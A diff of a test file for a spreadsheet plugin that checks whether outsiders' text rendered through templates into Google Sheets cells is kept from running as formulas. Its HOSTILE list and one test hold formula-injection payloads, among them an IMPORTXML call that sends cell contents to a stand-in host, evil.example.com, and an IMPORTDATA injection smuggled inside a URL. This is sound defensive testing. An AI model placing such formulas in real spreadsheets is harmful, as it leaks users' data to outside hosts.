@@ -1,6 +1,11 @@
 import { expect, test } from "vitest";
 import { keepAsText } from "../../plugins/google-sheets/escape.ts";
-import { bench, row } from "../support/google-sheets-bench.ts";
+import plugin from "../../plugins/google-sheets/index.ts";
+import { bookingOf } from "../../src/cal/booking.ts";
+import { NOBODY } from "../../src/cal/people.ts";
+import type { Json } from "../../src/event.ts";
+import { createRenderer } from "../../src/rendering/renderer.ts";
+import { bench, SPREADSHEET } from "../support/google-sheets-bench.ts";
 
 const HOSTILE = [
   '=IMPORTXML("https://evil.example.com/?" & A1, "//a")',
@@ -15,28 +20,36 @@ const HOSTILE = [
   "'=1+1",
 ];
 
-test.each(["{{ name }}", "{{ none }}{{ name }}", "{% if x %}{{ name }}{% endif %}", "{{ none }} {{ name }}"])(
-  "runs nothing of what strangers put into %s",
-  async (template) => {
-    const { sink, rows } = await bench([]);
-    const cells = HOSTILE.map((text, at) => [`column ${at}`, rendered(template, text)]);
-    await sink.deliver(row(Object.fromEntries(cells), { valueInput: "user-entered" }));
-    expect(rows()[1]?.filter((cell) => typeof cell !== "string")).toEqual([]);
-  },
-);
+test.each([
+  "{{ payload.name }}",
+  "{{ payload.none }}{{ payload.name }}",
+  "{{ payload.none }} {{ payload.name }}",
+  "{% if payload.name %}{{ payload.name }}{% endif %}",
+  "{% echo payload.name %}",
+  "{% capture name %}{{ payload.name }}{% endcapture %}{{ name }}",
+  "{{ payload.name | split: '' | join: '' }}",
+])("runs nothing of what strangers put into %s", async (template) => {
+  const { sink, rows } = await bench([]);
+  for (const name of HOSTILE) await sink.deliver(rendered({ Booking: "{{ booking.key }}", Name: template }, name));
+  const ran = rows().flatMap((cells) => cells.filter((cell) => typeof cell !== "string"));
+  expect(rows()).toHaveLength(HOSTILE.length + 1);
+  expect(ran).toEqual([]);
+});
 
 test("shows strangers' texts as they are", async () => {
   const { sink, rows } = await bench([]);
-  const typed = { valueInput: "user-entered" };
-  await sink.deliver(row({ A: rendered("{{ name }}", "=1+1"), B: "+49 170 0000000", C: "-5", D: "12" }, typed));
+  await sink.deliver(rendered({ A: "{{ payload.name }}", B: "+49 170 0000000", C: "-5", D: "12" }, "=1+1"));
   expect(rows()[1]).toEqual(["=1+1", "+49 170 0000000", -5, 12]);
 });
 
 test("runs the author's own formula, with a stranger's text inside its quotes", async () => {
   const { sink, rows } = await bench([]);
-  const link = rendered('=HYPERLINK("{{ url }}")', 'https://example.com/?q="&IMPORTDATA(A1)&"');
-  await sink.deliver(row({ Link: link }, { valueInput: "user-entered" }));
-  expect(rows()[1]).toEqual([{ formula: '=HYPERLINK("https://example.com/?q=""&IMPORTDATA(A1)&""")' }]);
+  const url = 'https://example.com/?q="&IMPORTDATA(A1)&"';
+  await sink.deliver(rendered({ Link: '=HYPERLINK("{{ payload.name }}")', Now: "=NOW()" }, url));
+  expect(rows()[1]).toEqual([
+    { formula: '=HYPERLINK("https://example.com/?q=""&IMPORTDATA(A1)&""")' },
+    { formula: "=NOW()" },
+  ]);
 });
 
 test("makes a stranger's text a string of the author's formula where it stands outside quotes", () => {
@@ -74,10 +87,26 @@ test("counts a templated valueInput as one that runs formulas", () => {
   expect(keepAsText("=1+1", place)).toBe("'=1+1");
 });
 
-/** A template as the relay renders it: each `{{ }}` put out through the sink's escape. */
-function rendered(template: string, text: string): string {
-  const branch = template.replaceAll(/\{%.*?%\}/g, "");
-  return branch.replaceAll(/\{\{ (\w+) \}\}/g, (_, name) => (name === "none" ? "" : escaped(text, template)));
+/** A message as the relay renders it, for a payload with this name. */
+function rendered(cells: Readonly<Record<string, string>>, name: string): Json {
+  const target = { spreadsheet: SPREADSHEET, sheet: "Bookings", valueInput: "user-entered", row: { ...cells } };
+  const payload = { name };
+  const booking = { ...bookingOf("BOOKING_CREATED", payload, {}), key: "example", attendee: NOBODY, guests: [] };
+  const createdAt = "2026-03-02T09:00:00.000Z";
+  const event = { id: "evt_example", source: "cal", receivedAt: createdAt };
+  const { template } = createRenderer({ timeZone: "UTC", locale: "en" }).compile(
+    target,
+    (text, place) => plugin.escape?.(text, { ...place, root: target }) ?? text,
+  );
+  return template.render({
+    trigger: "BOOKING_CREATED",
+    createdAt,
+    payload,
+    booking,
+    answers: {},
+    event,
+    route: "bookings",
+  });
 }
 
 function escaped(text: string, template: string): string {
